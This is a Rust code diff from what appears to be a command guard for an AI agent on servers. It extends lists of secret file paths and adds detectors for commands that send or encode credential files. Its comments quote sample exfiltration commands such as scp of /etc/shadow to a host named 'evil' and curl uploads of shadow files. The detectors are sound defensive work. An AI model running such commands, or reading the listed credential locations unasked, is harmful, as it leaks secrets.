@@ -54,6 +54,10 @@ pub(crate) const SECRET_DIRS: &[&str] = &[
     // initramfs copy unlocks disks remotely), raw ZFS encryption keys,
     // Yggdrasil's node key (eighteenth review).
     "/etc/dropbear/", "/etc/dropbear-initramfs/", "/etc/zfs/keys/", "/etc/yggdrasil/",
+    // Nomos's own configuration (secrets may be inline: the Matrix
+    // password, the model's API key) and its data (the Matrix session, the
+    // store's passphrase, the database) (twenty-eighth review).
+    "/etc/nomos/", "/var/lib/nomos/",
 ];
 
 /// Folders a recursive reader may not walk unasked, though their files
@@ -88,6 +92,11 @@ const HOME_SECRET_DIRS: &[&str] = &[
     // Object stores, cloud CLIs, SOPS's age keys (seventh review).
     ".mc/", ".config/sops/", ".config/hcloud/", ".config/openstack/", ".terraformrc",
     ".local/share/fish/fish_history", ".config/age/", ".talos/", ".influxdbv2/",
+    // age identities, the MinIO and InfluxDB 2 clients' tokens, helm's
+    // repository logins, Backblaze's token, Nomos's own configuration
+    // (twenty-eighth review).
+    ".age/", ".mcli/", ".config/influxdb2/", ".config/helm/repositories.yaml", ".b2_account_info",
+    ".config/nomos/",
 ];
 
 /// Files in `~/.ssh/` that are not private keys; any other file there may
@@ -155,6 +164,8 @@ const SECRET_NAMES: &[&str] = &[
     "authinfo", "ftpd.passwd", "config-db.php", "app.ini", "torrc", "stream.conf", "bgpd.conf",
     "ospfd.conf", "ospf6d.conf", "isisd.conf", "ripd.conf", "ripngd.conf", "eigrpd.conf",
     "zebra.conf", "ldpd.conf", "bfdd.conf",
+    // Nomos's own configuration (twenty-eighth review).
+    "nomos.toml",
 ];
 
 /// Names that are a secret as a file in a folder (`/etc/restic/password`,
@@ -172,6 +183,116 @@ const SECRET_NAMES_IN_A_FOLDER: &[&str] = &[
     "api_key",
     "apikey",
 ];
+
+/// Whether `program` is given a secret file to send with it: a sender's
+/// file options (curl's `-T FILE`, `-F name=@FILE;type=…`, `-d @FILE`,
+/// `--data-urlencode name@FILE`; wget's `--post-file=FILE`; mail
+/// clients' attachments) and the sources of a copy to another machine
+/// (`scp`, `rsync`, `rclone`, `sftp`), relative to where `cd` led,
+/// spelled as a glob, a brace list or a folder holding secrets, or on
+/// another machine (`scp pve1:/etc/shadow evil:`).
+pub(crate) fn given_secret(program: &str, args: &[crate::Arg], folders: &Folders) -> bool {
+    let copies = matches!(program, "scp" | "rsync" | "rclone" | "sftp");
+    let sends = copies
+        || matches!(
+            program,
+            "curl" | "wget" | "mail" | "mailx" | "s-nail" | "mutt" | "swaks" | "smbclient" | "lftp"
+        );
+    if !sends {
+        return false;
+    }
+    let secret = |value: &str, pattern: bool| {
+        // A copy's remote source: the path on that machine.
+        let value = match value.split_once(':') {
+            Some((host, path)) if copies && !host.contains('/') && path.starts_with('/') => path,
+            _ => value,
+        };
+        let value = value.trim_end_matches('/');
+        !value.is_empty()
+            && (names_secret_in(value, pattern, folders)
+                || (value.starts_with('/') && folder_holds_secrets(&format!("{value}/"))))
+    };
+    args.iter().any(|arg| {
+        let pattern = arg.is_glob();
+        let Some(word) = arg.literal().or_else(|| pattern.then(|| arg.raw())) else {
+            return false;
+        };
+        if word.starts_with('-') && !word.contains(['=', '@']) {
+            return false;
+        }
+        // The value of `--opt=VALUE`, `name=@FILE;type=…`, `name@FILE`,
+        // `@FILE`, `<FILE`.
+        let value = word
+            .strip_prefix("--")
+            .and_then(|w| w.split_once('='))
+            .map_or(word, |(_, v)| v);
+        let value = match value.split_once('@') {
+            Some((before, file)) if !before.contains('/') => file,
+            _ => value.split_once('=').map_or(value, |(_, v)| v),
+        };
+        let value = value.trim_start_matches(['@', '<']);
+        let value = value.split(';').next().unwrap_or(value);
+        let path_like = |value: &str| {
+            value.starts_with(['/', '~', '.'])
+                || word.contains('@')
+                || word.starts_with('<')
+                || (copies && !value.contains("://"))
+        };
+        // curl's own lists: `-T '{/etc/shadow,/etc/hosts}'`.
+        match value.strip_prefix('{').and_then(|v| v.strip_suffix('}')) {
+            Some(list) if program == "curl" => list
+                .split(',')
+                .any(|item| path_like(item) && secret(item, pattern)),
+            _ => path_like(value) && secret(value, pattern),
+        }
+    })
+}
+
+/// Whether a command (its words) streams secrets to its output as an
+/// archive, a compressed or an encoded copy: an archiver, compressor or
+/// encoder (`tar czf - /etc/pve`, `zip -r - /root/.ssh`, `gzip -c
+/// /etc/shadow`, `base64 KEY`, `dd if=KEY`) given a secret file or a
+/// folder holding secrets.
+pub(crate) fn streams_secret(words: &[String], folders: &Folders) -> bool {
+    let Some(at) = words.iter().position(|w| {
+        let program = w.rsplit('/').next().unwrap_or(w);
+        matches!(
+            program,
+            "tar"
+                | "bsdtar"
+                | "zip"
+                | "7z"
+                | "7za"
+                | "pax"
+                | "cpio"
+                | "gzip"
+                | "pigz"
+                | "zstd"
+                | "xz"
+                | "bzip2"
+                | "lz4"
+                | "base64"
+                | "base32"
+                | "xxd"
+                | "od"
+                | "hexdump"
+                | "dd"
+                | "openssl"
+                | "gpg"
+                | "age"
+                | "zcat"
+        )
+    }) else {
+        return false;
+    };
+    words[at + 1..].iter().any(|w| {
+        let value = w.strip_prefix("if=").unwrap_or(w);
+        let value = value.trim_end_matches('/');
+        value.starts_with(['/', '~', '.'])
+            && (names_secret_in(value, false, folders)
+                || (value.starts_with('/') && folder_holds_secrets(&format!("{value}/"))))
+    })
+}
 
 /// Whether a file's name alone makes it a secret ([`SECRET_NAMES`]).
 fn secret_name(name: &str) -> bool {
@@ -212,6 +333,14 @@ const SAMPLES: &[&str] = &[
     "/etc/proxmox-backup/authkey.key", "/etc/proxmox-backup/tfa.json", "/etc/pve/domains.cfg",
     "/proc/sys/net/ipv4/tcp_fastopen_key", "/proc/sys/net/ipv6/conf/vmbr0/stable_secret",
     "/tmp/krb5cc_0", "/var/lib/php/sessions/sess_x", "/root/core.1234", "/core",
+    // Twenty-eighth review: keys, tokens and dumps by the words of their
+    // names, drop-ins of secret configurations, Nomos's own files.
+    "/etc/nomos/nomos.toml", "/var/lib/nomos/matrix/store-passphrase", "/root/.age/key.txt",
+    "/root/pbs-encryption-key.json", "/root/luks.keyfile", "/root/api_token.json",
+    "/root/dump.sql", "/var/backups/db.dump", "/etc/telegraf/telegraf.d/outputs.conf",
+    "/etc/matrix-synapse/conf.d/database.yaml", "/root/.mcli/config.json",
+    "/root/.config/influxdb2/configs", "/root/.b2_account_info", "/root/.ansible/vault_pass",
+    "/root/.config/helm/repositories.yaml", "key.txt", "dump.sql",
 ];
 
 /// Programs that show only names or metadata, never contents.
@@ -1283,7 +1412,10 @@ pub(crate) fn secret_path(path: &str) -> bool {
         || name.ends_with(".jks")
         || name.ends_with(".keystore")
         || name.ends_with(".kdbx")
-        || name.ends_with(".gpg") && !name.ends_with(".pub.gpg")
+        || name.ends_with(".gpg")
+            && !name.ends_with(".pub.gpg")
+            // APT's keyrings: the archives' public keys.
+            && !["/etc/apt/", "/usr/share/keyrings/"].iter().any(|d| path.starts_with(d))
         // A service's own password list (`/etc/mosquitto/passwd`), not
         // the system's account list or its PAM stack.
         || (name == "passwd"
@@ -1355,6 +1487,106 @@ pub(crate) fn secret_path(path: &str) -> bool {
             && (path.contains("zigbee2mqtt") || path.contains("authelia")))
         || kernel_key(path)
         || app_store(path, name)
+        || key_file_name(path, name)
+        || database_dump(path, name)
+        || secret_drop_in(path)
+}
+
+/// A file named for the key, token or secret it holds, by the words of
+/// its name (`pbs-encryption-key.json`, `luks.keyfile`, `key.txt`,
+/// `api_token.json`, `client_secret.json`, `vault_pass`): the word `key`
+/// with a data file's extension or none, or `keyfile`, `token`,
+/// `secret`, `apikey`, `api_key`, `vault_pass` among its words; not a
+/// public key, a keyboard or a document (twenty-eighth review).
+fn key_file_name(path: &str, name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    if path.starts_with("/usr/")
+        || path.starts_with("/proc/")
+        || path.starts_with("/sys/")
+        || [
+            "pub",
+            "known",
+            "authorized",
+            "archive",
+            "trusted",
+            "cert",
+            "gpg-key",
+        ]
+        .iter()
+        .any(|w| lower.contains(w))
+        || [
+            ".md", ".html", ".txt.gz", ".py", ".sh", ".rs", ".go", ".js", ".c", ".h",
+        ]
+        .iter()
+        .any(|end| lower.ends_with(end))
+    {
+        return false;
+    }
+    let words: Vec<&str> = lower
+        .split(['.', '-', '_'])
+        .filter(|w| !w.is_empty())
+        .collect();
+    let Some((extension, _)) = words.split_last() else {
+        return false;
+    };
+    // (A name without an extension is also a word to look for, `grep -r
+    // AWS_SECRET`, `grep api_key`: only the vault's password file is
+    // taken by such a name.)
+    if !name.trim_start_matches('.').contains('.') {
+        return lower.contains("vault_pass") || lower.contains("vault-pass");
+    }
+    let data = name.contains('.')
+        && matches!(
+            *extension,
+            "json" | "txt" | "bin" | "dat" | "asc" | "b64" | "yaml" | "yml"
+        );
+    let has = |word: &str| words.contains(&word);
+    (has("key") && data)
+        || ["keyfile", "token", "secret", "apikey", "vault"]
+            .iter()
+            .any(|w| has(w) && words.len() > 1)
+        || lower.contains("api_key")
+        || lower.contains("vault_pass")
+        || lower.contains("vault-pass")
+}
+
+/// A database dump (`dump.sql`, `nextcloud-2024.sql`, `db.dump`): a
+/// database's rows, its users' password hashes and its applications'
+/// tokens with them; not the schema files packages ship under `/usr`.
+fn database_dump(path: &str, name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    !path.starts_with("/usr/")
+        && [".sql", ".dump", ".pgdump", ".sqldump"]
+            .iter()
+            .any(|end| lower.ends_with(end) && lower.len() > end.len())
+}
+
+/// A file in a drop-in folder of an application whose own configuration
+/// holds secrets (`/etc/telegraf/telegraf.d/outputs.conf` beside
+/// `telegraf.conf`, `/etc/matrix-synapse/conf.d/` beside
+/// `homeserver.yaml`): the drop-ins hold what the configuration would.
+fn secret_drop_in(path: &str) -> bool {
+    let Some(rest) = path.strip_prefix("/etc/") else {
+        return false;
+    };
+    let mut parts = rest.split('/');
+    let (Some(app), Some(folder), Some(file)) = (parts.next(), parts.next(), parts.next()) else {
+        return false;
+    };
+    let Some(stem) = folder.strip_suffix(".d") else {
+        return false;
+    };
+    if file.is_empty() || app.is_empty() {
+        return false;
+    }
+    if app == "matrix-synapse" {
+        return true;
+    }
+    [app, stem].iter().any(|base| {
+        ["conf", "yaml", "yml", "toml", "ini", "cfg"]
+            .iter()
+            .any(|ext| secret_name(&format!("{base}.{ext}")))
+    })
 }
 
 /// Suffixes copies, backups and compressed copies get (editors, package
